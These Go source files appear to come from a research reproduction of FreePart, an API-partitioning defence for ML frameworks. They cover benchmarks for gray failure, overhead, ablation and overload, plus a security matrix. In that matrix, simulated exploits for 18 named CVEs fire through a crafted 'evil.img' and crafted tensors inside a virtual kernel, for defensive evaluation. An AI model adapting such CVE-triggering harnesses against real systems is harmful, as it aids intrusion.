			p := chaos.Plan{Seed: chaos.DerivedSeed(seed, id)}
			if degrade && id == slowShard && gen == 0 {
				// Only the original incarnation is gray: a replacement
				// models a fresh machine taking over the slot.
				p = p.WithDegrade(chaos.DegradePlan{Factor: factor})
			}
			return p
		}
		ex, err := core.NewExecutor(shards, core.ChaosShards(reg, cat, core.Default(), planOf))
		if err != nil {
			return GrayResult{}, nil, err
		}
		srv, err := apps.ProvisionDetection(ex)
		if err != nil {
			ex.Close()
			return GrayResult{}, nil, err
		}
		// Steady state: provisioning cost (identical per shard) is not part
		// of the serving window.
		for i := 0; i < ex.Shards(); i++ {
			ex.Shard(i).K.Clock.Reset()
		}
		ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1})
		ex.SetGray(gray)
		ex.SetHedge(hedge)
		results := srv.ServeSeq(reqs)
		crit := ex.CriticalPath()
		m := ex.Metrics().Snapshot()
		r := GrayResult{
			Scenario:     scenario,
			Shards:       shards,
			SlowShard:    slowShard,
			Requests:     len(reqs),
			Served:       apps.Served(results),
			P50:          ex.Latencies().P50(),
			P95:          ex.Latencies().P95(),
			P99:          ex.Latencies().P99(),
			CriticalPath: crit,
			GrayDrains:   m.GrayDrains,
			ShardDrains:  m.ShardDrains,
			Migrations:   m.Migrations,
			Hedges:       m.Hedges,
			HedgeWins:    m.HedgeWins,
			HedgeCancels: m.HedgeCancels,
			HedgeWork:    m.HedgeWork,
			HedgeDelay:   hedge.Delay,
		}
		if degrade {
			r.Factor = factor
		}
		if crit > 0 {
			r.RPS = float64(len(reqs)) / crit.Seconds()
		}
		return r, ex, nil
	}

	// Fault-free run doubles as calibration: an inert scorer (ratio far
	// beyond any healthy deviation, fixed reference so no decision depends
	// on peers) harvests per-shard service-time EWMAs without perturbing
	// anything the row reports.
	calPolicy := core.GrayPolicy{Ratio: 1e9, Baseline: 1}
	base, ex, err := run("fault-free", false, calPolicy, core.HedgePolicy{})
	if err != nil {
		return nil, err
	}
	var cal grayCalibration
	for _, g := range ex.GrayScores() {
		if g.EWMA > cal.baseline {
			cal.baseline = g.EWMA
		}
	}
	// Floor the quantile-derived delay at the calibrated service time: a
	// hedge can never finish faster than one service, so a smaller delay
	// only triggers races the secondary cannot win.
	cal.hedge = core.DeriveHedgeDelay(ex.Latencies(), 95, cal.baseline)
	ex.Close()
	if cal.baseline <= 0 {
		return nil, fmt.Errorf("report: gray calibration produced no service-time baseline")
	}

	scorer := core.GrayPolicy{Ratio: 3, Baseline: cal.baseline}
	unmit, ex, err := run("unmitigated", true, core.GrayPolicy{}, core.HedgePolicy{})
	if err != nil {
		return nil, err
	}
	ex.Close()
	drain, ex, err := run("drain only", true, scorer, core.HedgePolicy{})
	if err != nil {
		return nil, err
	}
	ex.Close()
	hedged, ex, err := run("hedge + drain", true, scorer, core.HedgePolicy{Delay: cal.hedge})
	if err != nil {
		return nil, err
	}
	ex.Close()

	rows := []GrayResult{base, unmit, drain, hedged}
	work := float64(requests) * float64(cal.baseline)
	for i := range rows {
		rows[i].AddedP99 = rows[i].P99 - base.P99
		if work > 0 {
			rows[i].ExtraWorkFrac = float64(rows[i].HedgeWork) / work
		}
	}
	return rows, nil
}

// TableGray renders the gray-failure experiment — 4 shards, slot 2 alive
// but 10x slow — and optionally writes the rows as JSON to jsonPath (the
// BENCH_gray.json artifact).
func TableGray(requests int, jsonPath string) (string, error) {
	results, err := MeasureGray(4, requests, 2, 10)
	if err != nil {
		return "", err
	}
	t := &Table{
		Title:  "Gray failure: detection serving with one shard alive but 10x slow (4 shards, virtual time)",
		Header: []string{"Scenario", "Served", "RPS", "p50", "p95", "p99", "Added p99", "Gray drains", "Hedges", "W/C", "Extra work"},
	}
	for _, r := range results {
		t.Add(r.Scenario, fmt.Sprintf("%d/%d", r.Served, r.Requests), f1(r.RPS),
			r.P50.String(), r.P95.String(), r.P99.String(), r.AddedP99.String(),
			d(int(r.GrayDrains)), d(int(r.Hedges)),
			fmt.Sprintf("%d/%d", r.HedgeWins, r.HedgeCancels),
			fmt.Sprintf("%.1f%%", r.ExtraWorkFrac*100))
	}
	t.Notes = append(t.Notes,
		"The slow shard never crashes: every call completes, so crash-window health checks see a healthy fleet.",
		"The scorer's baseline and the hedge delay are calibrated from the fault-free run — no oracle knowledge of the slow slot.",
		"Drain alone pays the detection window in the tail; hedging covers that window, at the reported extra-work fraction.",
		"Hedge races resolve in virtual time; ties go to the lower shard id, so every run replays byte-equal.")
	if jsonPath != "" {
		if err := WriteGrayJSON(jsonPath, results); err != nil {
			return "", err
		}
		t.Notes = append(t.Notes, fmt.Sprintf("rows written to %s", jsonPath))
	}
	return t.String(), nil
}

// WriteGrayJSON writes gray-failure results as indented JSON.
func WriteGrayJSON(path string, results []GrayResult) error {
	b, err := json.MarshalIndent(results, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}
