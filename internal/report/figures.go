package report

import (
	"fmt"
	"sort"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/baseline"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/metrics"
)

// Fig4 sweeps the partition count: average virtual runtime per K, sampling
// random assignments (the paper's 7,750-per-K subsample, scaled down via
// the samples argument).
func Fig4(from, to, samples, sheets int) (string, error) {
	times, err := baseline.SweepPartitions(from, to, samples, sheets)
	if err != nil {
		return "", err
	}
	s := &Series{
		Title:  fmt.Sprintf("Figure 4: Average Runtime for Different Numbers of Partitions (%d samples/K)", samples),
		XLabel: "partitions", YLabel: "avg virtual runtime (ms)",
	}
	keys := make([]int, 0, len(times))
	for k := range times {
		keys = append(keys, k)
	}
	sort.Ints(keys)
	base := times[keys[0]]
	for _, k := range keys {
		label := ""
		if base > 0 {
			label = fmt.Sprintf("(%.2fx)", times[k]/base)
		}
		s.Points = append(s.Points, Point{X: d(k), Y: times[k] / 1e6, Label: label})
	}
	return s.String(), nil
}

// Fig6 verifies the pipeline pattern across the 56-app study.
func Fig6() (string, error) {
	appsList := attack.Study56()
	follow := 0
	loops := 0
	for _, a := range appsList {
		if a.FollowsPipeline() {
			follow++
		}
		if a.Loops {
			loops++
		}
	}
	return fmt.Sprintf("Figure 6: Pipeline Pattern of Data Processing\n"+
		"  %d/%d studied applications follow load -> process -> (visualize|store)\n"+
		"  %d repeat the loading/processing loop (video-style programs)\n",
		follow, len(appsList), loops), nil
}

// Fig7 tabulates the 241-CVE study corpus by API type and class.
func Fig7() (string, error) {
	tab := attack.CorpusByTypeAndClass(attack.StudyCorpus())
	s := &Series{
		Title:  "Figure 7: CVEs Categorized by Types of Vulnerabilities (241 CVEs)",
		XLabel: "API type / class", YLabel: "#CVEs",
	}
	for _, ty := range framework.ConcreteTypes() {
		classes := tab[ty]
		keys := make([]attack.VulnClass, 0, len(classes))
		for c := range classes {
			keys = append(keys, c)
		}
		sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
		for _, c := range keys {
			s.Points = append(s.Points, Point{
				X: fmt.Sprintf("%s/%s", ty.String(), shortClass(c)),
				Y: float64(classes[c]),
			})
		}
	}
	return s.String(), nil
}

// shortClass abbreviates a vulnerability class for figure labels.
func shortClass(c attack.VulnClass) string {
	switch c {
	case attack.ClassMemWrite:
		return "mem-write"
	case attack.ClassMemRead:
		return "mem-read"
	case attack.ClassDoS:
		return "dos"
	case attack.ClassFileRead:
		return "file-read"
	case attack.ClassRCE:
		return "rce"
	default:
		return "other"
	}
}

// OverheadRow is one Fig. 13 sample.
type OverheadRow struct {
	App      string
	Overhead float64 // percent
}

// MeasureOverheads runs every app at the given input scale under Direct
// and under FreePart, returning per-app overhead percentages.
func MeasureOverheads(scale int, ldc bool) ([]OverheadRow, error) {
	_, cat := hybridCat()
	var rows []OverheadRow
	for _, a := range apps.All() {
		// Unprotected baseline.
		k1 := kernel.New()
		d1 := core.NewDirect(k1, all.Registry())
		e1 := apps.NewEnvScaled(k1, d1, a, scale)
		t0 := k1.Clock.Now()
		if err := a.Run(e1); err != nil {
			return nil, fmt.Errorf("%s direct: %w", a.Name, err)
		}
		base := k1.Clock.Now() - t0

		// FreePart.
		k2 := kernel.New()
		cfg := core.Default()
		cfg.LazyDataCopy = ldc
		rt, err := core.New(k2, all.Registry(), cat, cfg)
		if err != nil {
			return nil, err
		}
		e2 := apps.NewEnvScaled(k2, rt, a, scale)
		t1 := k2.Clock.Now()
		if err := a.Run(e2); err != nil {
			rt.Close()
			return nil, fmt.Errorf("%s protected: %w", a.Name, err)
		}
		prot := k2.Clock.Now() - t1
		rt.Close()

		rows = append(rows, OverheadRow{App: a.Name, Overhead: metrics.Overhead(base, prot)})
	}
	return rows, nil
}

// Fig13 renders per-app normalized overhead at the given scale, with the
// LDC ablation average appended (§5.2's 3.68% vs 9.7%).
func Fig13(scale int) (string, error) {
	with, err := MeasureOverheads(scale, true)
	if err != nil {
		return "", err
	}
	s := &Series{
		Title:  fmt.Sprintf("Figure 13: Normalized Runtime Overhead of FreePart (input scale %dx)", scale),
		XLabel: "application", YLabel: "overhead %",
	}
	sum := 0.0
	for _, r := range with {
		s.Points = append(s.Points, Point{X: r.App, Y: r.Overhead})
		sum += r.Overhead
	}
	avg := sum / float64(len(with))

	without, err := MeasureOverheads(scale, false)
	if err != nil {
		return "", err
	}
	wsum := 0.0
	for _, r := range without {
		wsum += r.Overhead
	}
	wavg := wsum / float64(len(without))

	out := s.String()
	out += fmt.Sprintf("  average overhead: %.2f%% (paper: 3.68%%)\n", avg)
	out += fmt.Sprintf("  without lazy data copy: %.2f%% (paper: 9.7%%)\n", wavg)
	return out, nil
}

// SecurityMatrix runs every evaluation CVE against every affected app
// under FreePart and reports whether the attack was contained (§5,
// "Correctness of FreePart": all attacks mitigated, no false positives).
func SecurityMatrix() (string, error) {
	_, cat := hybridCat()
	t := &Table{
		Title:  "Security analysis: 18 CVEs vs affected applications (FreePart)",
		Header: []string{"CVE", "App", "Exploit fired in", "Host alive", "Data safe", "Leak blocked"},
	}
	for _, cve := range attack.EvalCVEs() {
		for _, sample := range cve.Samples {
			a, ok := apps.ByID(sample)
			if !ok {
				continue
			}
			k := kernel.New()
			rt, err := core.New(k, all.Registry(), cat, core.Default())
			if err != nil {
				return "", err
			}
			e := apps.NewEnvScaled(k, rt, a, 1)
			log := &attack.Log{}
			rt.OnExploit = log.Handler()

			// Critical host data the attacks aim at.
			crit, err := rt.Host.Space().Alloc(32)
			if err != nil {
				rt.Close()
				return "", err
			}
			_ = rt.Host.Space().Store(crit.Base, []byte("sensitive"))
			rt.RegisterCritical(crit)

			// Fire the exploit through the CVE's own API site where
			// possible; otherwise through a crafted input file.
			crafted := attack.Corrupt(cve.ID, crit.Base, []byte("OWNED"))
			if cve.Class == attack.ClassDoS {
				crafted = attack.DoS(cve.ID)
			}
			k.FS.WriteFile(e.Dir+"/evil.img", crafted)
			_, _, _ = rt.Call("cv.imread", framework.Str(e.Dir+"/evil.img"))
			// TensorFlow CVEs live in tensor APIs; drive those directly.
			if cve.Framework == "TensorFlow" {
				driveTensorCVE(rt, cve.ID)
			}

			firedIn := "-"
			if log.Last() != nil {
				firedIn = "agent"
			}
			data, _ := rt.Host.Space().Load(crit.Base, 9)
			dataSafe := string(data) == "sensitive"
			leakBlocked := len(k.Net.Sent()) == 0
			t.Add(cve.ID, a.Name, firedIn, fmt.Sprintf("%v", rt.Host.Alive()),
				fmt.Sprintf("%v", dataSafe), fmt.Sprintf("%v", leakBlocked))
			rt.Close()
		}
	}
	return t.String(), nil
}

// driveTensorCVE feeds a crafted tensor into the CVE's vulnerable API.
func driveTensorCVE(rt *core.Runtime, cveID string) {
	trig := attack.DoS(cveID)
	vals := make([]framework.Value, 0)
	_ = vals
	// Build a tensor carrying the trigger via torch.tensor then reshape to
	// a valid 2-D shape and call the vulnerable op.
	n := len(trig)
	handles, _, err := rt.Call("torch.tensor", framework.Int64(int64(n)), framework.Float64(0))
	if err != nil || len(handles) == 0 {
		return
	}
	// The trigger values must land in the tensor; easiest is a host-side
	// tensor shipped as a deep copy.
	ctx := rt.HostCtx()
	id, tt, err := ctx.NewTensor(n)
	if err != nil {
		return
	}
	tvals := make([]float64, n)
	for i, b := range trig {
		tvals[i] = float64(b)
	}
	_ = tt.SetValues(tvals)
	switch cveID {
	case "CVE-2021-29513":
		// conv3d needs a cube; pad to 3x3x3 minimum.
		cid, ct, err := ctx.NewTensor(3, 3, 3)
		if err != nil {
			return
		}
		cube := make([]float64, 27)
		copy(cube, tvals)
		_ = ct.SetValues(cube)
		_, _, _ = rt.Call("tf.nn.conv3d", framework.Obj(cid))
	case "CVE-2021-29618", "CVE-2021-37661":
		rid, rtens, err := ctx.NewTensor(8, 8)
		if err != nil {
			return
		}
		grid := make([]float64, 64)
		copy(grid, tvals)
		_ = rtens.SetValues(grid)
		api := "tf.nn.avg_pool"
		if cveID == "CVE-2021-37661" {
			api = "tf.nn.max_pool"
		}
		_, _, _ = rt.Call(api, framework.Obj(rid))
	case "CVE-2021-41198":
		rid, rtens, err := ctx.NewTensor(8, 8)
		if err != nil {
			return
		}
		grid := make([]float64, 64)
		copy(grid, tvals)
		_ = rtens.SetValues(grid)
		_, _, _ = rt.Call("tf.matmul", framework.Obj(rid), framework.Obj(rid))
	}
	_ = id
}

// A14 reproduces §A.1.4: sub-partitioning the data-processing agent beyond
// the four base partitions. Random splits of the DP APIs are sampled; the
// worst case separates hot-loop neighbours (cv.rectangle / cv.putText) and
// pays heavy cross-partition copies.
func A14(samples, sheets int) (string, error) {
	_, cat := hybridCat()
	base, err := baseline.MeasurePartitioned(4, baseline.TypePartitionOf(cat), sheets, 8, 4)
	if err != nil {
		return "", err
	}
	worst := 0.0
	sum := 0.0
	runs := 0
	for k := 5; k <= 8; k++ {
		for s := 0; s < samples; s++ {
			p, err := baseline.MeasurePartitioned(k,
				baseline.RandomPartitionOf(baseline.OMRAPIs(), k, int64(k*777+s)), sheets, 8, 4)
			if err != nil {
				return "", err
			}
			r := float64(p.Time) / float64(base.Time)
			sum += r
			runs++
			if r > worst {
				worst = r
			}
		}
	}
	// The adversarial split that motivates the paper's 16x worst case.
	adv, err := baseline.MeasurePartitioned(5, baseline.SplitHotPairPartitionOf(cat), sheets, 8, 4)
	if err != nil {
		return "", err
	}
	advRatio := float64(adv.Time) / float64(base.Time)
	if advRatio > worst {
		worst = advRatio
	}
	return fmt.Sprintf("A.1.4: Partitioning Beyond Four Partitions\n"+
		"  baseline (4 type partitions): %v\n"+
		"  random sub-partitions sampled: %d, avg ratio %.2fx, worst %.2fx\n"+
		"  adversarial hot-pair split (rectangle|putText apart): %.2fx\n",
		base.Time, runs, sum/float64(runs), worst, advRatio), nil
}

// Fig12 reproduces the syscall-derivation walkthrough of Fig. 12: the
// per-API required syscalls for the Fig. 10 facial-recognition program's
// loading APIs, and the union that becomes the data-loading agent's
// allowlist.
func Fig12() (string, error) {
	reg := all.Registry()
	t := &Table{
		Title:  "Figure 12: Obtaining Required System Calls (data-loading APIs of the Fig. 10 program)",
		Header: []string{"API / agent", "Required syscalls"},
	}
	apis := []string{"cv.CascadeClassifier", "cv.VideoCapture", "cv.VideoCapture.read"}
	union := map[string]bool{}
	for _, name := range apis {
		api := reg.MustGet(name)
		var names []string
		for _, sc := range api.Syscalls {
			names = append(names, string(sc))
			union[string(sc)] = true
		}
		t.Add(name, fmt.Sprintf("%v", names))
	}
	var all []string
	for sc := range union {
		all = append(all, sc)
	}
	sort.Strings(all)
	t.Add("data-loading agent (union)", fmt.Sprintf("%v", all))
	return t.String(), nil
}

// AblationRow is one mechanism's overhead contribution.
type AblationRow struct {
	Config   string
	Overhead float64
}

// Ablation measures the overhead contribution of each FreePart mechanism
// on the OMR workload: full system, then each of lazy data copy, temporal
// permissions, syscall restriction, and checkpointing toggled off — the
// design-choice ablation DESIGN.md calls out.
func Ablation(sheets int) (string, error) {
	base, err := baseline.MeasureUnprotected(sheets, 8, 4)
	if err != nil {
		return "", err
	}
	measure := func(name string, mutate func(*core.Config)) (AblationRow, error) {
		k := kernel.New()
		reg := all.Registry()
		cat := hybridCatCached(reg)
		cfg := core.Default()
		cfg.AppAPIs = baseline.OMRAPIs()
		mutate(&cfg)
		rt, err := core.New(k, reg, cat, cfg)
		if err != nil {
			return AblationRow{}, err
		}
		defer rt.Close()
		tmpl, err := rt.Host.Space().Alloc(64)
		if err != nil {
			return AblationRow{}, err
		}
		if cfg.EnforcePermissions {
			rt.RegisterCritical(tmpl)
		}
		start := k.Clock.Now()
		read := func(off, n int) ([]byte, error) {
			return rt.Host.Space().Load(tmpl.Base+mem.Addr(off), n)
		}
		if err := baseline.RunOMRWorkload(k, rt, read, sheets, 8, 4); err != nil {
			return AblationRow{}, err
		}
		elapsed := k.Clock.Now() - start
		return AblationRow{Config: name, Overhead: metrics.Overhead(base.Time, elapsed)}, nil
	}

	t := &Table{
		Title:  "Ablation: overhead contribution of each FreePart mechanism (OMR workload)",
		Header: []string{"Configuration", "Overhead vs unprotected"},
	}
	rows := []struct {
		name   string
		mutate func(*core.Config)
	}{
		{"full FreePart", func(c *core.Config) {}},
		{"without lazy data copy", func(c *core.Config) { c.LazyDataCopy = false }},
		{"without temporal permissions", func(c *core.Config) { c.EnforcePermissions = false }},
		{"without syscall restriction", func(c *core.Config) { c.RestrictSyscalls = false }},
		{"without checkpointing", func(c *core.Config) { c.CheckpointStateful = false }},
		{"without restart supervisor", func(c *core.Config) { c.Restart = false }},
	}
	for _, r := range rows {
		row, err := measure(r.name, r.mutate)
		if err != nil {
			return "", err
		}
		t.Add(row.Config, fmt.Sprintf("%.2f%%", row.Overhead))
	}
	t.Notes = append(t.Notes,
		"Isolation (IPC + copies) dominates; permissions, filters, checkpoints, and restart are cheap.",
	)
	return t.String(), nil
}

// hybridCatCached memoizes the categorization across ablation rows.
var cachedCat *analysis.Categorization

func hybridCatCached(reg *framework.Registry) *analysis.Categorization {
	if cachedCat == nil {
		_, cachedCat = hybridCat()
	}
	return cachedCat
}
