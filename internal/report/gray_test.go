package report

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

// TestGrayFrontier pins the campaign's headline ordering on the standard
// configuration (4 shards, slot 2 at 10x): unmitigated tail latency blows
// up far past fault-free, suspicion-drain alone recovers most of it but
// still pays the detection window, and hedging on top lands near the
// fault-free baseline — at a bounded extra-work price.
func TestGrayFrontier(t *testing.T) {
	rows, err := MeasureGray(4, 64, 2, 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("got %d rows, want 4", len(rows))
	}
	base, unmit, drain, hedged := rows[0], rows[1], rows[2], rows[3]

	for _, r := range rows {
		if r.Served != r.Requests {
			t.Fatalf("%s: served %d/%d — the slow shard is alive, nothing may fail", r.Scenario, r.Served, r.Requests)
		}
		if r.P50 > r.P95 || r.P95 > r.P99 {
			t.Fatalf("%s: percentiles not monotone: %v %v %v", r.Scenario, r.P50, r.P95, r.P99)
		}
	}

	// The frontier: unmitigated >> drain-only > hedge+drain, with hedging
	// within a small multiple of fault-free.
	if unmit.P99 < 10*base.P99 {
		t.Fatalf("unmitigated p99 %v vs fault-free %v: slow shard did not hurt", unmit.P99, base.P99)
	}
	if drain.P99 >= unmit.P99 {
		t.Fatalf("drain-only p99 %v did not improve on unmitigated %v", drain.P99, unmit.P99)
	}
	if hedged.P99 >= drain.P99 {
		t.Fatalf("hedge+drain p99 %v did not improve on drain-only %v", hedged.P99, drain.P99)
	}
	if hedged.P99 > 4*base.P99 {
		t.Fatalf("hedge+drain p99 %v not near fault-free %v", hedged.P99, base.P99)
	}

	// Mitigation provenance: the fault-free row is clean; both mitigated
	// rows detected the slow shard through the latency scorer; only the
	// hedged row spent hedge work, and boundedly so.
	if base.GrayDrains != 0 || base.Hedges != 0 {
		t.Fatalf("fault-free row shows mitigation activity: %+v", base)
	}
	if unmit.Hedges != 0 || unmit.GrayDrains != 0 {
		t.Fatalf("unmitigated row shows mitigation activity: %+v", unmit)
	}
	if drain.GrayDrains == 0 || hedged.GrayDrains == 0 {
		t.Fatalf("mitigated rows never gray-drained: drain=%d hedged=%d", drain.GrayDrains, hedged.GrayDrains)
	}
	if hedged.Hedges == 0 {
		t.Fatal("hedged row launched no hedges")
	}
	if hedged.ExtraWorkFrac <= 0 || hedged.ExtraWorkFrac > 0.5 {
		t.Fatalf("hedge extra-work fraction %.3f out of (0, 0.5]", hedged.ExtraWorkFrac)
	}
	if hedged.HedgeDelay <= 0 {
		t.Fatal("hedged row reports no hedge delay")
	}
}

// TestGrayDeterministic reruns the whole four-scenario measurement —
// calibration, drains, hedge races — and demands identical rows.
func TestGrayDeterministic(t *testing.T) {
	a, err := MeasureGray(4, 48, 2, 10)
	if err != nil {
		t.Fatal(err)
	}
	b, err := MeasureGray(4, 48, 2, 10)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("gray results diverged between identical runs:\n%+v\nvs\n%+v", a, b)
	}
}

// TestMeasureGrayRejectsBadArgs pins the argument validation.
func TestMeasureGrayRejectsBadArgs(t *testing.T) {
	if _, err := MeasureGray(4, 16, 4, 10); err == nil {
		t.Fatal("slow shard out of range accepted")
	}
	if _, err := MeasureGray(4, 16, -1, 10); err == nil {
		t.Fatal("negative slow shard accepted")
	}
	if _, err := MeasureGray(4, 16, 2, 1); err == nil {
		t.Fatal("factor <= 1 accepted")
	}
}

// TestWriteGrayJSON checks the benchmark artifact round-trips.
func TestWriteGrayJSON(t *testing.T) {
	rows, err := MeasureGray(4, 16, 2, 10)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "BENCH_gray.json")
	if err := WriteGrayJSON(path, rows); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var back []GrayResult
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, rows) {
		t.Fatalf("JSON round-trip diverged:\n%+v\nvs\n%+v", back, rows)
	}
}
