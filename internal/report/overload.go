package report

import (
	"encoding/json"
	"fmt"
	"os"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
)

// OverloadResult is one row of the overload drill: a fixed pool serving a
// two-tenant tracking load offered at a multiple of the pool's calibrated
// capacity, under the bounded admission queue and deadline shedding, with
// admissions ordered FIFO (arrival order) or by weighted fair queueing.
// The claims the table defends: the admission bound converts overload into
// bounded-latency goodput plus explicit sheds (no p99 melt), and WFQ makes
// the chatty tenant — not the light one — absorb the rejections.
type OverloadResult struct {
	// Scenario names the configuration ("wfq 4x").
	Scenario string `json:"scenario"`
	// Policy is the admission order: "fifo" or "wfq".
	Policy string `json:"policy"`
	// Factor is the offered load as a multiple of calibrated capacity.
	Factor int `json:"factor"`
	// QueueLimit and Deadline echo the admission policy in force.
	QueueLimit int             `json:"queue_limit"`
	Deadline   vclock.Duration `json:"deadline_ns"`
	// Streams is the client count (heavy tenant + light tenant).
	Streams int `json:"streams"`
	// Offered counts measurement steps offered; Admitted those that ran to
	// completion (the goodput); Dropped those shed by overload control.
	Offered  int `json:"offered"`
	Admitted int `json:"admitted"`
	Dropped  int `json:"dropped"`
	// Rejected/DeadlineShed split the drops by mechanism: refused at the
	// queue bound vs dropped at dequeue past deadline.
	Rejected     uint64 `json:"rejected"`
	DeadlineShed uint64 `json:"deadline_shed"`
	// ShedRate is Dropped over Offered.
	ShedRate float64 `json:"shed_rate"`
	// HeavyGoodput/LightGoodput are per-tenant admitted steps; LightShare
	// is the light tenant's share of total goodput (its offered share is
	// light/(heavy+light) streams; its fair share under equal weights is
	// whatever capacity allows, up to half).
	HeavyGoodput int     `json:"heavy_goodput"`
	LightGoodput int     `json:"light_goodput"`
	LightShare   float64 `json:"light_share"`
	// Jain is Jain's fairness index over per-tenant weighted goodput
	// (goodput/weight): 1.0 is perfectly fair, 1/n is maximally unfair.
	Jain float64 `json:"jain"`
	// P50/P99 are virtual latencies of admitted requests (arrival to
	// completion, queueing included); shed requests record no latency.
	P50 vclock.Duration `json:"p50_ns"`
	P99 vclock.Duration `json:"p99_ns"`
	// P99Vs1x is this row's p99 over the same policy's 1× row.
	P99Vs1x float64 `json:"p99_vs_1x"`
	// Failed counts streams aborted by a non-shed error (0 in a healthy
	// drill).
	Failed int `json:"failed"`
}

// overloadQueueLimit and overloadDeadlineSteps configure the drill's
// admission policy: up to 3 requests deep per shard, and a deadline of 2
// calibrated service times in queue. Together they bound an admitted
// request's latency to ~3 service times no matter the offered load — the
// "graceful" in graceful degradation.
const (
	overloadQueueLimit    = 3
	overloadDeadlineSteps = 2
)

// MeasureOverload serves the two-tenant tracking load at each offered-load
// factor (× calibrated pool capacity), once per admission order. Capacity
// is calibrated by probe runs — one measuring session-init cost, one
// measuring steady-state per-step service time — so the factors mean the
// same thing whatever the framework stack costs. All rows at one factor
// see byte-identical streams.
func MeasureOverload(shards, heavy, light, steps int, factors []int) ([]OverloadResult, error) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	initCost, stepCost, err := CalibrateTracking()
	if err != nil {
		return nil, err
	}

	perShard := (heavy + light) / shards
	if perShard < 1 {
		perShard = 1
	}
	// Arrival offset: every shard serves its sessions' inits serially
	// before the first wave's measurements.
	warm := initCost * vclock.Duration(perShard+1)
	pol := core.AdmissionPolicy{
		QueueLimit: overloadQueueLimit,
		Deadline:   stepCost * overloadDeadlineSteps,
	}

	var out []OverloadResult
	for _, factor := range factors {
		// Offered per-shard rate is perShard/gap steps per virtual second;
		// capacity is 1/stepCost. gap = perShard·stepCost/factor offers
		// exactly factor× capacity.
		gap := stepCost * vclock.Duration(perShard) / vclock.Duration(factor)
		streams := apps.GenTenantStreams(17, heavy, light, steps, gap, warm)
		for _, policy := range []string{"fifo", "wfq"} {
			ex, err := core.NewExecutor(shards, core.ProtectedShards(reg, cat, core.Default()))
			if err != nil {
				return nil, err
			}
			srv := apps.ProvisionTracking(ex)
			for i := 0; i < ex.Shards(); i++ {
				ex.Shard(i).K.Clock.Reset()
			}
			ex.SetAdmission(pol)
			opt := apps.RampOptions{TolerateShed: true}
			if policy == "wfq" {
				// Quantum = 1.25 calibrated service times. The quantum sets
				// how hard the finish clocks bend the arrival order: too
				// small and extreme overload degenerates to FIFO
				// (proportional shedding); above ~4/3 of the per-shard
				// arrival spacing the clocks reorder even an idle pool,
				// wasting inter-arrival slack as idle time and shedding at
				// 1x. 5/4 sits inside that window — at 1x the order is
				// exactly the arrival order (zero cost), under overload the
				// clocks dominate and the split converges on fair share.
				opt.Orderer = &sched.WFQ{Quantum: 5 * stepCost / 4}
			}
			results := srv.ServeRampOpts(streams, opt)
			m := ex.Metrics().Snapshot()

			row := OverloadResult{
				Scenario:     fmt.Sprintf("%s %dx", policy, factor),
				Policy:       policy,
				Factor:       factor,
				QueueLimit:   pol.QueueLimit,
				Deadline:     pol.Deadline,
				Streams:      len(streams),
				Offered:      (heavy + light) * steps,
				Rejected:     m.Rejected,
				DeadlineShed: m.DeadlineShed,
				P50:          ex.Latencies().P50(),
				P99:          ex.Latencies().P99(),
			}
			var goodput [2]int
			for i, r := range results {
				row.Admitted += r.Steps
				row.Dropped += r.Dropped
				if r.Err != nil {
					row.Failed++
				}
				if streams[i].Tenant == 2 {
					goodput[1] += r.Steps
				} else {
					goodput[0] += r.Steps
				}
			}
			row.HeavyGoodput, row.LightGoodput = goodput[0], goodput[1]
			if row.Offered > 0 {
				row.ShedRate = float64(row.Dropped) / float64(row.Offered)
			}
			if row.Admitted > 0 {
				row.LightShare = float64(row.LightGoodput) / float64(row.Admitted)
			}
			row.Jain = jainIndex([]float64{float64(goodput[0]), float64(goodput[1])})
			ex.Close()
			out = append(out, row)
		}
	}

	// Normalize each row's p99 against the same policy's 1× row.
	base := map[string]vclock.Duration{}
	for _, r := range out {
		if r.Factor == 1 {
			base[r.Policy] = r.P99
		}
	}
	for i := range out {
		if b := base[out[i].Policy]; b > 0 {
			out[i].P99Vs1x = float64(out[i].P99) / float64(b)
		}
	}
	return out, nil
}

// CalibrateTracking measures the tracking workload's session-init cost and
// steady-state per-step service time on a one-shard probe pool — the
// capacity unit the drill's load factors are expressed in. The probe runs
// closed-loop (every arrival stamped at zero, so the shard never idles
// waiting for a request): the measurement is pure service cost, not
// arrival spacing. Both probes are deterministic, so calibration never
// varies across runs.
func CalibrateTracking() (initCost, stepCost vclock.Duration, err error) {
	const probeSteps = 64
	crit := func(steps int) (vclock.Duration, error) {
		reg := all.Registry()
		cat := analysis.New(reg, nil).Categorize()
		ex, err := core.NewExecutor(1, core.ProtectedShards(reg, cat, core.Default()))
		if err != nil {
			return 0, err
		}
		defer ex.Close()
		srv := apps.ProvisionTracking(ex)
		ex.Shard(0).K.Clock.Reset()
		probe := apps.GenTrackStreams(7, 1, steps)
		for i := range probe[0].Arrivals {
			probe[0].Arrivals[i] = 0
		}
		srv.ServeStreams(probe)
		return ex.CriticalPath(), nil
	}
	initCost, err = crit(0)
	if err != nil {
		return 0, 0, err
	}
	full, err := crit(probeSteps)
	if err != nil {
		return 0, 0, err
	}
	stepCost = (full - initCost) / probeSteps
	if stepCost <= 0 {
		return 0, 0, fmt.Errorf("report: overload calibration measured non-positive step cost %v", stepCost)
	}
	return initCost, stepCost, nil
}

